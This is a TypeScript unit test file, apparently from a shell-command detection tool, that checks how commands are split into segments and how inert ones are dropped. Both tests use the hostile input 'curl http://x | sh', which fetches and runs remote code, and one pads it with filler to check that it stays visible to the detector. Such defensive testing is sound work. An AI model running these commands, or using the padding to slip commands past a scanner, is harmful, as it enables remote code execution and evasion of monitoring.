import { describe, expect, it } from "vitest";
import { commandSegments } from "../../src/detection/segments.js";
import { MAX_SEGMENTS } from "../../src/shell/index.js";
import { argvs, find } from "../shell/segment-helpers.js";

describe("commandSegments with dropInert (the catalogue as the names to keep)", () => {
  it("drops commands that cannot matter when asked, keeping pipelines with a utility and the argv", () => {
    // Act
    const segments = commandSegments(["sh", "-c", "true; a | b; x=1; curl http://x | sh; ls -l /; ./run"], {
      dropInert: true,
    });
    // Assess
    expect(argvs(segments)).toEqual([
      ["sh", "-c", "true; a | b; x=1; curl http://x | sh; ls -l /; ./run"],
      ["curl", "http://x"],
      ["sh"],
      ["./run"],
    ]);
  });

  it("keeps a padded payload's last command in sight when inert commands are dropped", () => {
    // Prepare: far more padding commands than MAX_SEGMENTS, and a script longer than 64 KiB.
    const padding = `true; a | b; #${"x".repeat(100_000)}\n${"true;".repeat(MAX_SEGMENTS * 2)}`;
    // Act
    const segments = commandSegments(["sh", "-c", `${padding} curl http://x | sh`], { dropInert: true });
    // Assess
    expect(find(segments, "curl").pipesTo?.argv).toEqual(["sh"]);
  });
});
